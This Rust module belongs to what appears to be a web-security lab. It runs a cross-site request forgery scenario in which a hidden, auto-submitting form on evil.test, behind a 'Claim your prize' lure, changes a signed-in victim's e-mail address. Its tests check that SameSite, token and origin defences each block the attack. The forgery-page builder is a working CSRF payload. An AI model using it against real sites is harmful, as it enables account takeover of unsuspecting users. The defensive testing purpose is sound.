//! `csrf`: a page on another site changes the victim's e-mail address.
//!
//! The attacker copies the app's e-mail form from his own settings page into
//! a page on `evil.test` (another registrable domain than the app's
//! `lab.test`, so cross-site), with his own address in it and a script that
//! submits it the moment the page is shown. Alice, signed in to the app, opens
//! a link to that page. Her browser sends the form to the app as a top-level
//! POST: whether her session cookie goes along is SameSite's decision, whether
//! the app accepts the request is the token's and the origin check's. The
//! proof is alice's own view of her account: it shows the attacker's address.
//! The attacker never reads her page.

use rand::Rng;
use sessionlab_browser::{
    AUTO_SUBMIT_FIRST_FORM, CookieDecision, Exchange, Page, ScriptEffect, html,
};
use url::Url;

use crate::actors::{log_in, no_sign_of, session_id};
use crate::app_target::CsrfSection;
use crate::evil_site::EvilSite;
use crate::lab::{EVIL_CROSS_SITE_HOST, RunContext, RunError};
use crate::outcome::{Actor, ExchangeRef, Verdict};
use crate::victim::{Drive, VictimBrowser};
use sessionlab_protocol::{element, escape_html};

pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
    if let Some(csrf) = ctx.target.app.as_ref().and_then(|app| app.csrf.clone()) {
        return run_on_app(ctx, &csrf).await;
    }
    let evil = EvilSite::start()
        .await
        .map_err(|e| RunError::Lab(format!("could not start {EVIL_CROSS_SITE_HOST}: {e}")))?;
    let run_id = format!("{:016x}", rand::rng().random::<u64>());
    let planted = format!("mallory-{}@evil.test", &run_id[..8]);

    let mut attacker = ctx.browser(Actor::Attacker, "attacker");
    log_in(ctx, &mut attacker, &ctx.attacker).await?;
    let settings = attacker
        .open(&ctx.app_url("/account/settings"), None)
        .await?;
    let Some(form) = settings
        .forms()
        .into_iter()
        .find(|form| form.action.path() == "/account/email")
    else {
        return Err(RunError::Lab(format!(
            "{}'s settings page: {}",
            ctx.attacker.username,
            no_sign_of(&attacker, &settings, "/account/settings", "an e-mail form")
        )));
    };
    // Every field as his own page has it (a token too, if there is one), his address in `email`.
    let mut fields = form.fields;
    match fields.iter_mut().find(|(name, _)| name == "email") {
        Some(email) => email.1 = planted.clone(),
        None => fields.push(("email".into(), planted.clone())),
    }
    let names: Vec<&str> = fields.iter().map(|(name, _)| name.as_str()).collect();
    ctx.step(
        Actor::Attacker,
        format!(
            "logged in as {} and read the e-mail form on his own settings page",
            ctx.attacker.username
        ),
        format!(
            "a POST to /account/email with the fields {}; he copies them all",
            names.join(", ")
        ),
    );

    // The action without any query: the attacker's own page may carry his session in its links.
    let action = ctx.app_url("/account/email");
    evil.host_page(&run_id, forgery_page(&action, &fields));
    let lure = evil.cross_site_url(&format!("/page/{run_id}"));
    ctx.step(
        Actor::Attacker,
        format!("put that form, hidden, on a page at {lure} with `document.forms[0].submit()`"),
        format!("the form sends email={planted} to {action}"),
    );

    let mut victim = ctx.victim_browser("victim");
    evil.join_cross_site(victim.network_mut());
    let her_account = log_in(ctx, &mut victim, &ctx.victim).await?;
    let before = email_on(&victim, &her_account)?;
    ctx.step(
        Actor::Victim,
        format!("{} logged in and opened her account", ctx.victim.username),
        format!("her e-mail address is {before}"),
    );

    let cookie_before = session_id(ctx, &victim);
    let page = victim.open(&lure).await?;
    let browser_did = describe_forged_request(ctx, &victim, &page, "/account/email");
    let opened_lure = ctx.step(
        Actor::Victim,
        format!("opened the link to {EVIL_CROSS_SITE_HOST} (sent to her by e-mail)"),
        &browser_did,
    );
    let forged_request = ctx.find_exchange(opened_lure, |x| {
        x.method == "POST" && x.url.ends_with("/account/email")
    });

    // A forged request that reached the app without her cookie may have been answered with a
    // fresh anonymous session, replacing her cookie: then she simply logs in again to look.
    let mut account = victim.open(&ctx.app_url("/account")).await?;
    if account.url.path() != "/account" {
        let why = if session_id(ctx, &victim) != cookie_before {
            format!(
                "the answers to the forged request had replaced her {} cookie with a new, anonymous session",
                ctx.target.session_cookie
            )
        } else {
            "her session had ended".to_string()
        };
        log_in(ctx, &mut victim, &ctx.victim).await?;
        ctx.step(
            Actor::Victim,
            "found herself logged out and logged in again",
            why,
        );
        // Her account page in a step of its own: the one the verdict reads.
        account = victim.open(&ctx.app_url("/account")).await?;
    }
    let after = email_on(&victim, &account)?;
    let looked = ctx.step(
        Actor::Victim,
        "opened her account page again",
        format!("her e-mail address is {after}"),
    );
    let verdict = forged_request
        .and_then(|forged: ExchangeRef| {
            ctx.forged_change_shown(
                looked,
                &planted,
                forged,
                format!(
                    "{browser_did}; her own account page now shows the attacker's address {after}"
                ),
            )
        })
        // The attack broke at the forged request (or before it was ever sent).
        .unwrap_or_else(|| {
            Verdict::blocked(
                format!("{browser_did}; her account page still shows {after}"),
                opened_lure,
            )
        });
    if after != before {
        // Clean-up: the next run starts from her own address.
        let restored = change_own_email(ctx, &mut victim, &before).await?;
        ctx.step(
            Actor::Victim,
            "clean-up: put her own address back through her settings page",
            format!("her e-mail address is {restored} again"),
        );
    }
    Ok(verdict)
}

/// Against an app a target file describes: the form its `[csrf]` names,
/// copied from the attacker's own page to a page on `evil.test` with the
/// field set to a value random per run; the proof is the victim's own view
/// of the effect page containing it. Nothing is put back: naming the form in
/// the file is asking for the change.
async fn run_on_app(ctx: &mut RunContext, csrf: &CsrfSection) -> Result<Verdict, RunError> {
    let evil = EvilSite::start()
        .await
        .map_err(|e| RunError::Lab(format!("could not start {EVIL_CROSS_SITE_HOST}: {e}")))?;
    let run_id = format!("{:016x}", rand::rng().random::<u64>());
    let planted = csrf.value.replace("{random}", &run_id[..8]);

    let mut attacker = ctx.browser(Actor::Attacker, "attacker");
    log_in(ctx, &mut attacker, &ctx.attacker).await?;
    let form_page = attacker.open(&ctx.app_url(&csrf.form_page), None).await?;
    let Some(form) = form_page
        .forms()
        .into_iter()
        .find(|form| form.action.path() == csrf.action)
    else {
        return Err(RunError::Lab(format!(
            "{}'s {}: {}",
            ctx.attacker.username,
            csrf.form_page,
            no_sign_of(
                &attacker,
                &form_page,
                &csrf.form_page,
                &format!("a form posting to {}", csrf.action)
            )
        )));
    };
    let mut fields = form.fields;
    match fields.iter_mut().find(|(name, _)| *name == csrf.field) {
        Some(field) => field.1 = planted.clone(),
        None => fields.push((csrf.field.clone(), planted.clone())),
    }
    let names: Vec<&str> = fields.iter().map(|(name, _)| name.as_str()).collect();
    ctx.step(
        Actor::Attacker,
        format!(
            "logged in as {} and read the form on his own {}",
            ctx.attacker.username, csrf.form_page
        ),
        format!(
            "a POST to {} with the fields {}; he copies them all",
            csrf.action,
            names.join(", ")
        ),
    );
    let action = ctx.app_url(&csrf.action);
    evil.host_page(&run_id, forgery_page(&action, &fields));
    let lure = evil.cross_site_url(&format!("/page/{run_id}"));
    ctx.step(
        Actor::Attacker,
        format!("put that form, hidden, on a page at {lure} with `document.forms[0].submit()`"),
        format!("the form sends {}={planted} to {action}", csrf.field),
    );

    let mut victim = ctx.victim_browser("victim");
    evil.join_cross_site(victim.network_mut());
    log_in(ctx, &mut victim, &ctx.victim).await?;
    let effect = ctx.app_url(&csrf.effect_path);
    let before = victim.open(&effect).await?;
    ctx.step(
        Actor::Victim,
        format!(
            "{} logged in and opened {}",
            ctx.victim.username, csrf.effect_path
        ),
        format!(
            "{} answered {}, without the attacker's value",
            csrf.effect_path, before.status
        ),
    );
    let page = victim.open(&lure).await?;
    let browser_did = describe_forged_request(ctx, &victim, &page, &csrf.action);
    let opened_lure = ctx.step(
        Actor::Victim,
        format!("opened the link to {EVIL_CROSS_SITE_HOST} (sent to her by e-mail)"),
        &browser_did,
    );
    let forged_request = ctx.find_exchange(opened_lure, |x| {
        x.method == "POST" && Url::parse(&x.url).is_ok_and(|u| u.path() == csrf.action)
    });
    let mut after = victim.open(&effect).await?;
    if after.url.path() != csrf.effect_path {
        log_in(ctx, &mut victim, &ctx.victim).await?;
        ctx.step(
            Actor::Victim,
            "found herself logged out and logged in again",
            format!("{} had sent her to {}", csrf.effect_path, after.url.path()),
        );
        after = victim.open(&effect).await?;
    }
    let shows = after.body.contains(&planted);
    let looked = ctx.step(
        Actor::Victim,
        format!("opened {} again", csrf.effect_path),
        if shows {
            format!("it shows the attacker's value {planted}")
        } else {
            format!(
                "{} ({}) does not show {planted}",
                csrf.effect_path, after.status
            )
        },
    );
    Ok(forged_request
        .and_then(|forged: ExchangeRef| {
            ctx.forged_change_shown(
                looked,
                &planted,
                forged,
                format!(
                    "{browser_did}; her own {} now shows the attacker's value {planted}",
                    csrf.effect_path
                ),
            )
        })
        .unwrap_or_else(|| {
            Verdict::blocked(
                format!(
                    "{browser_did}; her {} does not show the attacker's value",
                    csrf.effect_path
                ),
                opened_lure,
            )
        }))
}

/// The victim's e-mail address as the account page her browser shows has it.
fn email_on(browser: &impl Drive, page: &Page) -> Result<String, RunError> {
    html::text_by_id(&page.body, element::EMAIL)
        .ok_or_else(|| RunError::Lab(no_sign_of(browser, page, "/account", "an e-mail address")))
}

/// Changes the victim's address as she would: her own settings page, its form
/// (with whatever hidden fields it has, a CSRF token too), her own browser.
/// The address her account page shows afterwards, which must be `address`.
async fn change_own_email(
    ctx: &RunContext,
    victim: &mut VictimBrowser,
    address: &str,
) -> Result<String, RunError> {
    let settings = victim.open(&ctx.app_url("/account/settings")).await?;
    let landed = victim
        .submit_form(&settings, "/account/email", &[("email", address)])
        .await?;
    let shown = email_on(victim, &landed)?;
    if shown != address {
        return Err(RunError::Lab(format!(
            "clean-up failed: after she saved {address} on her settings page, her account page shows {shown}"
        )));
    }
    Ok(shown)
}

/// The attacker's page: the hidden form and the auto-submit program.
fn forgery_page(action: &Url, fields: &[(String, String)]) -> String {
    let inputs: String = fields
        .iter()
        .map(|(name, value)| {
            format!(
                "<input type=\"hidden\" name=\"{}\" value=\"{}\">",
                escape_html(name),
                escape_html(value)
            )
        })
        .collect();
    format!(
        "<!doctype html><title>You have won!</title><h1>Claim your prize</h1>\
         <form method=\"post\" action=\"{}\">{inputs}</form>{AUTO_SUBMIT_FIRST_FORM}",
        escape_html(action.as_str())
    )
}

/// What the victim's browser did with the page, in one line: whether the form
/// was sent, with or without her session cookie (and why), and what the app answered.
fn describe_forged_request(
    ctx: &RunContext,
    victim: &VictimBrowser,
    page: &Page,
    action_path: &str,
) -> String {
    let forged_post = |e: &&Exchange| e.method == "POST" && e.url.path() == action_path;
    // The simulated browser reports its script model's effect; Chromium's is the request itself.
    let submitted = page
        .scripts
        .iter()
        .any(|effect| matches!(effect, ScriptEffect::SubmittedForm { .. }))
        || victim.exchanges().iter().any(|e| forged_post(&e));
    if !submitted {
        return match page.scripts.first() {
            Some(ScriptEffect::BlockedByCsp { policy }) => {
                format!("her browser did not run the page's script (its CSP `{policy}`)")
            }
            _ => format!(
                "the page's script sent nothing ({} answered {})",
                EVIL_CROSS_SITE_HOST, page.status
            ),
        };
    }
    let Some(post) = victim.exchanges().iter().rev().find(forged_post) else {
        return format!(
            "the page submitted the form, but the request failed: {}",
            victim.script_errors().join("; ")
        );
    };
    let fetch_site = match post.request_header("sec-fetch-site") {
        Some(site) => format!("Sec-Fetch-Site {site}"),
        // Fetch metadata goes only to potentially trustworthy URLs (https, localhost).
        None => "no Sec-Fetch-Site over plain HTTP".to_string(),
    };
    format!(
        "her browser POSTed the form to the app (Origin {}, {fetch_site}) and {}; the app answered {}",
        post.request_header("origin").unwrap_or("none"),
        session_cookie_decision(ctx, victim, post),
        app_answer(post)
    )
}

/// Whether the session cookie went with the forged POST, and the rule that decided it.
fn session_cookie_decision(ctx: &RunContext, victim: &VictimBrowser, post: &Exchange) -> String {
    let name = &ctx.target.session_cookie;
    let decision = post
        .cookie_decisions
        .iter()
        .find(|decision| match decision {
            CookieDecision::Sent(cookie) | CookieDecision::Withheld { cookie, .. } => {
                &cookie.name == name
            }
        });
    match decision {
        Some(CookieDecision::Sent(cookie)) if !cookie.same_site_explicit => {
            let age = victim.age_of(cookie);
            format!(
                "sent her {name} cookie with it (no SameSite attribute, so Lax by default, and {}s old: inside Chromium's two-minute Lax+POST allowance)",
                age.as_secs()
            )
        }
        Some(CookieDecision::Sent(_)) => format!("sent her {name} cookie with it"),
        Some(CookieDecision::Withheld { reason, .. }) => {
            format!("kept her {name} cookie home ({reason})")
        }
        None => format!("had no {name} cookie to send"),
    }
}

/// "303 redirect to /account" or `403 "CSRF token missing or wrong: ..."`.
fn app_answer(post: &Exchange) -> String {
    if let Some(location) = post.response_header("location") {
        return format!("{} redirect to {location}", post.status);
    }
    // The app explains its 4xx answers in the first line.
    let reason = post.body.lines().next().map(str::trim).unwrap_or_default();
    if (400..500).contains(&post.status) && !reason.is_empty() && !reason.starts_with('<') {
        let headline: String = reason.chars().take(100).collect();
        format!("{} \"{headline}\"", post.status)
    } else {
        post.status.to_string()
    }
}

#[cfg(test)]
mod tests {
    use sessionlab_app::{Defense, Profile, ProfileName};

    use crate::actors::run_against;
    use crate::outcome::Outcome;

    const LAYERS: [Defense; 3] = [
        Defense::SameSiteStrict,
        Defense::CsrfToken,
        Defense::OriginCheck,
    ];

    /// Hardened with only `kept` of the three CSRF layers on.
    fn hardened_with_only(kept: Option<Defense>) -> Profile {
        LAYERS
            .into_iter()
            .filter(|layer| Some(*layer) != kept)
            .fold(Profile::new(ProfileName::Hardened), Profile::without)
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn each_layer_alone_blocks_and_none_falls() {
        for (kept, stopped_by) in [
            (Defense::SameSiteStrict, "SameSite=Strict"),
            (Defense::CsrfToken, "CSRF token missing or wrong"),
            (Defense::OriginCheck, "Cross-origin request refused"),
        ] {
            let result = run_against("csrf", hardened_with_only(Some(kept))).await;
            assert_eq!(
                result.outcome,
                Outcome::Blocked,
                "{kept}: {}",
                result.evidence
            );
            assert!(
                result.evidence.contains(stopped_by),
                "{kept}: {}",
                result.evidence
            );
        }
        let result = run_against("csrf", hardened_with_only(None)).await;
        assert_eq!(result.outcome, Outcome::Compromised, "{}", result.evidence);
        assert!(result.evidence.contains("Lax+POST"), "{}", result.evidence);
    }
}
